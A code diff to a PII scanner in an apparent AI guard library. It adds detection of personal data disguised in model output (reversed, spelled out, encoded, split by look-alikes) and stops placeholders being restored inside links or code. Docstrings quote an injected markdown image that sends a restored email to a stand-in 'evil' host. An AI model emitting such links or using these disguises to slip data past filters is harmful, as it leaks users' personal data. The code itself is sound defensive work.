@@ -10,12 +10,13 @@ that same request.
 
 from __future__ import annotations
 
+import bisect
 import hashlib
 import ipaddress
 import re
 import secrets
 import unicodedata
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 from functools import lru_cache
 from typing import Any, ClassVar
@@ -178,15 +179,16 @@ def ssn_valid(area: str, group: str, serial: str) -> bool:
 
 # --- candidate patterns -----------------------------------------------------------------
 
-_LOCAL = re.compile(r"[A-Za-z0-9._%+-]{1,64}\Z")
-_DOMAIN = re.compile(r"(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,24}(?![\w-])")
+_LOCAL = re.compile(r"[\w.%+-]{1,64}\Z")
+# letters of any script: an address with one non-ASCII letter is still an address
+_DOMAIN = re.compile(r"(?:[^\W_](?:[\w-]{0,61}[^\W_])?\.)+[^\W\d_]{2,24}(?![\w-])")
 _SPELLED_AT = re.compile(r"[\[(\{]\s?(?:at|AT|At)\s?[\])\}]")
 _EMAIL_SPELLED = re.compile(
     r"(?i)(?<![\w.+-])[a-z0-9][a-z0-9._%+-]{0,63}\s?[\[(\{]\s?at\s?[\])\}]\s?"
     r"(?:[a-z0-9-]{1,63}\s?(?:[\[(\{]\s?dot\s?[\])\}]|\.)\s?)+"
     r"(?:com|org|net|edu|gov|mil|int|io|ai|dev|app|info|biz|name|mail|[a-z]{2})(?![\w-])"
 )
-_CARD = re.compile(r"(?<![\w.-])\d(?:[ -]?\d){12,18}(?![\w-]|\.\d)")
+_CARD = re.compile(r"(?<![\w.-])\d(?:[ .-]?\d){12,18}(?![\w-]|\.\d)")
 _IBAN = re.compile(
     r"(?<![A-Za-z0-9])[A-Za-z]{2}\d{2}(?: ?[A-Za-z0-9]{4}){2,7}(?: ?[A-Za-z0-9]{1,3})?"
     r"(?![A-Za-z0-9])"
@@ -238,6 +240,7 @@ _ID_CONTEXT = re.compile(
 )
 _STRONG_PHONE = re.compile(r"\b(?:phone|tel|telephone|mobile|cell|fax|call|whatsapp|sms)\b")
 _GROUPS = re.compile(r"\d+")
+_NON_DIGITS = re.compile(r"\D+")
 _THOUSANDS = re.compile(r"\d{1,3}(?:[ ,.\u202f]\d{3})+")
 _RANGE = re.compile(r"\d{1,5}\s?[-\u2013]\s?\d{1,5}")
 _MONEY = frozenset("$\u20ac\u00a3\u00a5")
@@ -257,7 +260,7 @@ def _card_ok(raw: str) -> bool:
     seps = {ch for ch in raw if not ch.isdigit()}
     if len(seps) > 1:
         return False
-    digits = raw.replace(" ", "").replace("-", "")
+    digits = raw.replace(" ", "").replace("-", "").replace(".", "")
     if not 13 <= len(digits) <= 19 or len(set(digits)) < 2:
         return False
     return _CARD_PREFIXES.match(digits) is not None and luhn_valid(digits)
@@ -379,14 +382,20 @@ def _emails(text: str) -> Iterable[PiiMatch]:
     at = text.find("@")
     while at != -1:
         nxt = at + 1
-        local = _LOCAL.search(text, max(0, at - 64), at)
-        domain = _DOMAIN.match(text, at + 1) if local else None
+        left = at
+        while left > 0 and at - left < 2 and text[left - 1] in " \t":
+            left -= 1  # "jane @ corp.com"
+        right = at + 1
+        while right < len(text) and right - at <= 2 and text[right] in " \t":
+            right += 1
+        local = _LOCAL.search(text, max(0, left - 64), left)
+        domain = _DOMAIN.match(text, right) if local else None
         if local and domain:
             start = local.start()
             while start < at and not text[start].isalnum():
                 start += 1  # the first character must be a letter or digit
             glued = start > 0 and (text[start - 1].isalnum() or text[start - 1] in "_.%+-")
-            if start < at and not glued:
+            if start < left and not glued:
                 yield PiiMatch("EMAIL", start, domain.end(), 0.95)
                 nxt = domain.end()
         at = text.find("@", nxt)
@@ -514,6 +523,189 @@ def find_pii(
     return non_overlapping(found)
 
 
+# --- output: PII disguised by formatting, look-alikes and encodings -------------------------
+
+# kinds whose validators are strong enough to trust inside decoded or run-together text
+# "maria dot gonzalez at northwind dash mail dot com": spelled with words, at least the
+# last dot spelled out (so "look at example.com" stays prose)
+_EMAIL_WORDS = re.compile(
+    r"(?<![\w.+-])[a-z0-9][a-z0-9._%+-]{0,63}(?: (?:dot|dash|underscore) [a-z0-9._%+-]{1,63}){0,4}"
+    r" at [a-z0-9-]{1,63}(?:(?: (?:dot|dash) |[.-])[a-z0-9-]{1,63}){0,4} dot "
+    r"(?:com|org|net|edu|gov|mil|io|ai|dev|app|info|biz|co|uk|de|fr|es|it|nl|me|us)(?![\w-])"
+)
+_ASCII_TEXT = re.compile(rb"[\x20-\x7e\t\r\n]+")
+_STRONG = frozenset({"EMAIL", "CREDIT_CARD", "IBAN", "US_SSN"})
+_SSN_LOOSE = re.compile(r"(\d(?<![\w.-]\d)\d{2})([-./])(\d{2})\2(\d{4})(?![\w-]|\.\d)")
+
+
+_IBAN_START = re.compile(r"\d\d(?<=[A-Za-z]{2}\d\d)")  # the check digits after the country
+_LONG_DIGITS = re.compile(r"\d(?<![A-Za-z0-9]\d)\d{12,18}(?![A-Za-z0-9])")
+
+
+_G = r"[^A-Za-z0-9]{1,8}"
+_E = r"(?![A-Za-z0-9])"
+# card and SSN shapes whose groups are split by anything short; digit by digit for cards
+# (each starts with a digit, and looks behind it for the word boundary: ``re`` then skips
+# to digits quickly instead of trying every position)
+# nine digits spelled one at a time ("4 5 7 5 5 ..."), an SSN where a context word says so
+_SPELLED_SSN = re.compile(
+    r"\d(?<![A-Za-z0-9]\d)(?:[^A-Za-z0-9\n]{1,3}\d){8}(?![^A-Za-z0-9\n]{1,3}\d)(?![A-Za-z0-9])"
+)
+_IBAN_BACKWARDS_END = re.compile(r"\d\d[A-Za-z]{2}(?![A-Za-z0-9])")
+_SPELLED_NEAR = re.compile(r"(?<![A-Za-z0-9])[A-Za-z][^A-Za-z0-9]{1,3}\d")
+_SPELLED_AFTER = re.compile(r"[^A-Za-z0-9]{1,3}[A-Za-z](?![A-Za-z0-9])")
+_SPLIT_NUMBER = re.compile(
+    rf"\d(?<![A-Za-z0-9]\d)(?:\d{{3}}{_G}\d{{4}}{_G}\d{{4}}{_G}\d{{1,4}}(?:{_G}\d{{3}})?"
+    rf"|\d{{3}}{_G}\d{{6}}{_G}\d{{4,5}}|\d{{2}}{_G}\d{{2}}{_G}\d{{4}}|(?:{_G}\d){{12,18}}){_E}"
+)
+
+
+def _joined_pii(view: str, kinds: frozenset[str]) -> Iterable[tuple[str, int, int, float]]:
+    """Cards and SSNs whose groups are split by anything short (``·``, ``|``, line breaks,
+    JSON quotes) or spelled one digit at a time, and IBANs split the same way."""
+    if kinds & {"CREDIT_CARD", "US_SSN"}:
+        for m in _SPLIT_NUMBER.finditer(view):
+            hit = _split_number(m, kinds)
+            if hit is not None:
+                yield hit
+    if "CREDIT_CARD" in kinds:
+        for run in _LONG_DIGITS.finditer(view):
+            backwards = run.group()[::-1]
+            if backwards[0] != "0" and _card_ok(backwards):
+                yield ("CREDIT_CARD", *run.span(), 0.85)
+    if "IBAN" in kinds:
+        from aisec.guard._shadow import joined
+
+        for m in _IBAN_START.finditer(view):
+            start = m.start() - 2
+            if view[start : start + 2].upper() not in _IBAN_LENGTHS or (
+                start and view[start - 1].isalnum()
+            ):
+                continue
+            j = joined(view, start, start + 320)
+            q = j.text.upper()
+            length = _IBAN_LENGTHS.get(q[:2])
+            if not length or len(q) < length or not iban_valid(q[:length]):
+                continue
+            cut = j.fragment_at(length - 1)
+            ends_clean = length == len(q) or j.starts[cut + 1] == length
+            if ends_clean and not any(j.breaks[x] for x in range(1, cut + 1)):
+                yield ("IBAN", *j.shadow_span(0, length), 0.95)
+
+
+def _split_number(m: re.Match[str], kinds: frozenset[str]) -> tuple[str, int, int, float] | None:
+    raw = m.group()
+    groups = _GROUPS.findall(raw)
+    gaps = _NON_DIGITS.findall(raw)
+    if any(g.count("\n") > 1 for g in gaps):
+        return None  # a paragraph between them: not one number
+    digits = "".join(groups)
+    shape = tuple(len(g) for g in groups)
+    if shape == (3, 2, 4):
+        if "US_SSN" in kinds and ssn_valid(digits[:3], digits[3:5], digits[5:]):
+            return ("US_SSN", m.start(), m.end(), 0.85)
+        return None
+    if "CREDIT_CARD" not in kinds:
+        return None
+    single = len(groups) >= 13 and all(x == 1 for x in shape)
+    if single and (len(set(gaps)) != 1 or "," in gaps[0]):
+        return None  # "4 1 1 1 ..." is spelling; "5, 3, 8, ..." is a list of scores
+    before = m.string[max(0, m.start() - 4) : m.start() + 1]
+    inside = _SPELLED_NEAR.search(before) or _SPELLED_AFTER.match(m.string, m.end())
+    if single and inside:
+        return None  # digits inside a longer spelled-out run (a key): not a card on its own
+    if _card_ok(digits):
+        return ("CREDIT_CARD", m.start(), m.end(), 0.9)
+    # written backwards to slip past the check: the reversed digits are the card
+    backwards = shape == (4, 4, 4, 4) or (single and len(digits) == 16)
+    if backwards and digits[-1] != "0" and _card_ok(digits[::-1]):
+        return ("CREDIT_CARD", m.start(), m.end(), 0.85)
+    return None
+
+
+def find_pii_deep(text: str, kinds: Iterable[str] | None = None) -> list[PiiMatch]:
+    """:func:`find_pii` on ``text`` and on its disguised forms: the shadow (look-alikes,
+    invisible characters, odd dashes and spaces), the run-together view, the reversed
+    shadow and the decodings of encoded runs; spans of ``text``, merged."""
+    from aisec.guard._decode import readable_decodings
+    from aisec.guard._shadow import shadow
+
+    wanted = _ALL if kinds is None else frozenset(kinds)
+    found = list(find_pii(text, wanted))
+    sh = shadow(text)
+    view = sh.text
+    if not sh.identity:
+        found += [
+            PiiMatch(m.kind, *sh.span(m.start, m.end), m.score) for m in find_pii(view, wanted)
+        ]
+    if "US_SSN" in wanted and ("." in view or "/" in view):
+        for ssn in _SSN_LOOSE.finditer(view):
+            if ssn_valid(ssn.group(1), ssn.group(3), ssn.group(4)):
+                found.append(PiiMatch("US_SSN", *sh.span(*ssn.span()), 0.8))
+    for kind, start, end, score in _joined_pii(view, wanted & _STRONG):
+        found.append(PiiMatch(kind, *sh.span(start, end), score))
+    low = view.lower()
+    if len(low) != len(view):  # a few letters grow when lowered: keep offsets
+        low = "".join(c.lower() if len(c.lower()) == 1 else c for c in view)
+    if "EMAIL" in wanted and " dot " in low:
+        for spelled in _EMAIL_WORDS.finditer(low):
+            found.append(PiiMatch("EMAIL", *sh.span(*spelled.span()), 0.8))
+    strong = wanted & _STRONG
+    if "EMAIL" in strong and "@" in view:  # written backwards
+        n = len(view)
+        for m in find_pii(view[::-1], {"EMAIL"}):
+            found.append(PiiMatch(m.kind, *sh.span(n - m.end, n - m.start), m.score))
+    if "IBAN" in strong:  # backwards: the country code and check digits come last
+        for tail in _IBAN_BACKWARDS_END.finditer(view):
+            lo = max(0, tail.end() - 48)
+            window = view[lo : tail.end()][::-1]
+            for m in find_pii(window, {"IBAN"}):
+                end = tail.end()
+                found.append(PiiMatch(m.kind, *sh.span(end - m.end, end - m.start), m.score))
+    if "US_SSN" in wanted:
+        for ssn in _SPELLED_SSN.finditer(view):
+            digits = "".join(c for c in ssn.group() if c.isdigit())
+            context = low[max(0, ssn.start() - 40) : ssn.start()]
+            if _SSN_CONTEXT.search(context) and ssn_valid(digits[:3], digits[3:5], digits[5:]):
+                found.append(PiiMatch("US_SSN", *sh.span(*ssn.span()), 0.8))
+    if strong:
+        readable: list[tuple[int, int]] = []
+        decoded_hits: list[PiiMatch] = []
+        for start, end, decoded, data in readable_decodings(view):
+            inner = find_pii(decoded, strong)
+            span = sh.span(start, end)
+            if inner:
+                decoded_hits.append(PiiMatch(inner[0].kind, *span, 0.9))
+            elif len(data) >= 8 and _ASCII_TEXT.fullmatch(data):
+                readable.append(span)
+        if readable:
+            # digits of hex bytes are not phone or card numbers: leave the encoded run whole
+            # for the scanners after this one (the secrets scanner decodes it again)
+            found = [
+                m
+                for m in found
+                if m.kind not in _DIGIT_KINDS
+                or not any(s <= m.start and m.end <= e for s, e in readable)
+            ]
+        found += decoded_hits
+    return _merge(found)
+
+
+def _merge(found: list[PiiMatch]) -> list[PiiMatch]:
+    """Overlapping matches merged into one span (the higher-priority kind names it)."""
+    out: list[PiiMatch] = []
+    for m in sorted(found, key=lambda x: (x.start, -x.end)):
+        if out and m.start < out[-1].end:
+            last = out[-1]
+            best = last if _PRIORITY[last.kind] <= _PRIORITY[m.kind] else m
+            out[-1] = PiiMatch(
+                best.kind, last.start, max(last.end, m.end), max(last.score, m.score)
+            )
+        else:
+            out.append(m)
+    return out
+
+
 # --- redaction and the per-request vault ---------------------------------------------------
 
 _VAULT_KEY = "guard.pii.vault"
@@ -575,49 +767,143 @@ def redact_pii(
 
 
 _PLACEHOLDER = re.compile(r"<(?:" + "|".join(PII_KINDS) + r")_\d{1,6}>")
-# URL-ish tokens hold no whitespace, so restore_stream can decide per whitespace token
-_URLISH = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]{1,15}:)?//\S+|\]\(\S+?\)|\b(?:src|href)=\S+")
+_ANY_PLACEHOLDER = re.compile(r"<(?:[A-Z]+(?:_[A-Z]+)*_\d{1,6}|SECRET:[a-z_]+)>")
+# places in rendered markdown/HTML that are not running text: a value put back there would
+# be fetched, linked or executed rather than shown
+_FENCE = re.compile(r"(?m)^[ \t]{0,3}(`{3,}|~{3,})")
+_CODE_SPAN = re.compile(r"`+")
+_URL_TOKEN = re.compile(r"(?i)(?<![\w.+-])(?:[a-z][a-z0-9+.-]{1,31}:|//|www\.)\S+")
+_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,999}\]:[^\n]*(?:\n[ \t]+[^\n]*)?")
+_CSS_URL_OPEN = re.compile(r"(?i)url\(")
+_TAG_OPEN = re.compile(r"<[A-Za-z!?/]")
 
 
-def restore(text: str, ctx: ScanContext) -> str:
-    """Put back the originals of placeholders made reversibly in this request.
+def _close_quoted(text: str, pos: int, close: str) -> int:
+    """The index after the ``close`` character that ends a construct opened before ``pos``,
+    skipping quoted strings; the end of the text when it never closes (fail closed)."""
+    n = len(text)
+    quote = ""
+    depth = 0
+    while pos < n:
+        ch = text[pos]
+        if quote:
+            if ch == quote:
+                quote = ""
+        elif ch in "\"'" and close == ">":
+            quote = ch
+        elif close == ")" and ch == "(":
+            depth += 1
+        elif ch == close:
+            if depth == 0:
+                return pos + 1
+            depth -= 1
+        pos += 1
+    return n
 
-    Placeholders inside a URL or link target stay as they are: restoring them there would
-    turn an injected ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration.
-    """
+
+def _protected(text: str) -> list[tuple[int, int]]:
+    """Spans of ``text`` that are code, HTML tags, link destinations, reference definitions,
+    URLs or CSS ``url()``: never places to put an original value back."""
+    spans: list[tuple[int, int]] = []
+    fences = list(_FENCE.finditer(text))
+    i = 0
+    while i < len(fences):
+        opener = fences[i]
+        j = i + 1
+        while j < len(fences) and not fences[j].group(1).startswith(opener.group(1)[0] * 3):
+            j += 1
+        end = fences[j].end() if j < len(fences) else len(text)
+        spans.append((opener.start(), end))
+        i = j + 1
+    if "`" in text:
+        ticks = list(_CODE_SPAN.finditer(text))
+        k = 0
+        while k < len(ticks):
+            close = next(
+                (t for t in ticks[k + 1 :] if len(t.group()) == len(ticks[k].group())), None
+            )
+            if close is None:
+                k += 1
+                continue
+            spans.append((ticks[k].start(), close.end()))
+            k = ticks.index(close) + 1
+    for m in _TAG_OPEN.finditer(text):
+        if _ANY_PLACEHOLDER.match(text, m.start()):
+            continue
+        spans.append((m.start(), _close_quoted(text, m.end(), ">")))
+    pos = text.find("](")
+    while pos != -1:
+        spans.append((pos, _close_quoted(text, pos + 2, ")")))
+        pos = text.find("](", pos + 2)
+    spans += [m.span() for m in _REF_DEF.finditer(text)]
+    spans += [m.span() for m in _URL_TOKEN.finditer(text)]
+    spans += [(m.start(), _close_quoted(text, m.end(), ")")) for m in _CSS_URL_OPEN.finditer(text)]
+    return spans
+
+
+def _restore_in(text: str, ctx: ScanContext, skip: int = 0) -> str:
     vault = ctx.state.get(_VAULT_KEY)
     if not isinstance(vault, _Vault) or "<" not in text:
-        return text
-    blocked = [(m.start(), m.end()) for m in _URLISH.finditer(text)]
+        return text[skip:]
+    blocked = sorted(_protected(text))
+    starts = [s for s, _ in blocked]
+    reach: list[int] = []
+    for _, e in blocked:
+        reach.append(max(e, reach[-1]) if reach else e)
 
     def _swap(m: re.Match[str]) -> str:
-        if any(s <= m.start() < e for s, e in blocked):
-            return m.group()
+        i = bisect.bisect_right(starts, m.start()) - 1
+        if i >= 0 and reach[i] > m.start():
+            return m.group()  # inside code, a tag, a link target or a URL: left as is
         original = vault.original(m.group())
         return m.group() if original is None else original
 
-    return _PLACEHOLDER.sub(_swap, text)
+    return _sub_from(text, skip, _swap)
+
+
+def _sub_from(text: str, skip: int, swap: Callable[[re.Match[str]], str]) -> str:
+    out: list[str] = []
+    pos = skip
+    for m in _PLACEHOLDER.finditer(text, skip):
+        out.append(text[pos : m.start()])
+        out.append(swap(m))
+        pos = m.end()
+    out.append(text[pos:])
+    return "".join(out)
+
+
+def restore(text: str, ctx: ScanContext) -> str:
+    """Put back the originals of placeholders made reversibly in this request, only where
+    the text is running text: never inside code, HTML tags (attributes included), markdown
+    link or image destinations, reference definitions, URLs or CSS ``url()`` (restoring
+    there would turn ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration)."""
+    return _restore_in(text, ctx)
 
 
 _MAX_HELD = 8192  # a token longer than this without whitespace is passed on unrestored
+_CONTEXT = 8192  # raw text kept from earlier chunks: a tag or fence opened there still counts
 
 
 def restore_stream(chunks: Iterable[str], ctx: ScanContext) -> Iterator[str]:
-    """:func:`restore` for streamed output: a placeholder or URL split across chunks is
-    held back until its whitespace-delimited token is complete, then restored whole."""
+    """:func:`restore` for streamed output: a placeholder or URL split across chunks is held
+    back until its whitespace-delimited token is complete; a tag, code fence or link target
+    opened in an earlier chunk still protects what follows it."""
     held = ""
+    context = ""
     for chunk in chunks:
         held += chunk
         cut = max(held.rfind(" "), held.rfind("\n"), held.rfind("\t"))
         if cut == -1:
             if len(held) > _MAX_HELD:
                 yield held  # placeholders in it stay placeholders: never wrongly restored
+                context = (context + held)[-_CONTEXT:]
                 held = ""
             continue
         ready, held = held[: cut + 1], held[cut + 1 :]
-        yield restore(ready, ctx)
+        yield _restore_in(context + ready, ctx, len(context))
+        context = (context + ready)[-_CONTEXT:]
     if held:
-        yield restore(held, ctx)
+        yield _restore_in(context + held, ctx, len(context))
 
 
 def _mask(kind: str, value: str) -> str:
@@ -658,7 +944,10 @@ class PiiScanner(Scanner):
         self.reversible = bool(options.get("reversible", False))
 
     def scan(self, text: str, ctx: ScanContext) -> ScanResult:
-        matches = find_pii(text, self.kinds)
+        if ctx.direction is Direction.OUTPUT:
+            matches = find_pii_deep(text, self.kinds)
+        else:
+            matches = find_pii(text, self.kinds)
         if not matches:
             return ScanResult(0.0)
         where = "in model output" if ctx.direction is Direction.OUTPUT else "in text"
